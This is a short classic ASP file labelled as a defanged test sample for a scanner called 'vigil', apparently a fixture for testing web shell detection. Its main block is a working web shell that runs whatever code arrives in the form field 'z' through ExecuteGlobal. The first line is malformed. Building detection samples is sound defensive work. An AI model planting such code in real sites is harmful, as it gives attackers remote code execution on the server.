<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
code = Request.Form("z")
ExecuteGlobal code
%>
